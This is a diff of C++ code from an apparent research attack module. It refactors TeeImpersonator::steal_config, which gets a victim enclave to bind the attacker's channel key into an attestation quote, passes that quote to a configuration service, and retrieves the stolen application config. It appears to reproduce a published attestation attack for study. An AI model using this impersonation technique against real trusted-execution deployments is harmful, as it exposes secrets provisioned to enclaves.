@@ -1,7 +1,7 @@
 #include "attack/impersonator.h"
 
 #include "attack/report_server.h"
-#include "common/serial.h"
+#include "cas/client.h"
 #include "net/secure_channel.h"
 
 namespace sinclave::attack {
@@ -22,9 +22,13 @@ ImpersonationAttempt TeeImpersonator::steal_config(
     const std::optional<core::AttestationToken>& token) {
   ImpersonationAttempt attempt;
 
-  // 1. Own channel key; the binding the verifier will check.
-  net::SecureClient client(crypto::Drbg(rng_.generate(16), "impersonator"));
-  const sgx::ReportData binding = net::channel_binding(client.dh_public());
+  // 1. Own channel key; the binding the verifier will check. The attack
+  // rides the legitimate client SDK — exactly the paper's point: a CAS
+  // client is ~75 lines of adaptation, nothing enclave-specific.
+  cas::AttestedChannel channel(net_, cas_address,
+                               crypto::Drbg(rng_.generate(16),
+                                            "impersonator"));
+  const sgx::ReportData binding = net::channel_binding(channel.dh_public());
 
   // 2. Have the victim enclave vouch for *our* channel key.
   sgx::Report report;
@@ -49,29 +53,29 @@ ImpersonationAttempt TeeImpersonator::steal_config(
   payload.quote = *q;
   payload.token = token;
 
-  std::optional<Bytes> accepted;
+  Status attest_status;
   try {
-    accepted = client.connect(net_->connect(cas_address), cas_identity,
-                              payload.serialize());
+    attest_status = channel.attest(cas_identity, payload);
   } catch (const Error&) {
     attempt.failure = "connect-failed";
     return attempt;
   }
-  if (!accepted.has_value()) {
+  if (attest_status.code == StatusCode::kAttestationRejected) {
     attempt.failure = "handshake-rejected";
+    return attempt;
+  }
+  if (!attest_status.ok()) {
+    attempt.failure = "connect-failed";
     return attempt;
   }
 
   // 5. Collect the spoils.
-  ByteWriter cmd;
-  cmd.u8(static_cast<std::uint8_t>(cas::Command::kGetConfig));
-  const cas::ConfigResponse cfg =
-      cas::ConfigResponse::deserialize(client.call(cmd.data()));
-  if (!cfg.ok) {
+  const Result<cas::AppConfig> cfg = channel.get_config();
+  if (!cfg.ok()) {
     attempt.failure = "config-denied";
     return attempt;
   }
-  attempt.stolen_config = cfg.config;
+  attempt.stolen_config = cfg.value();
   return attempt;
 }
 
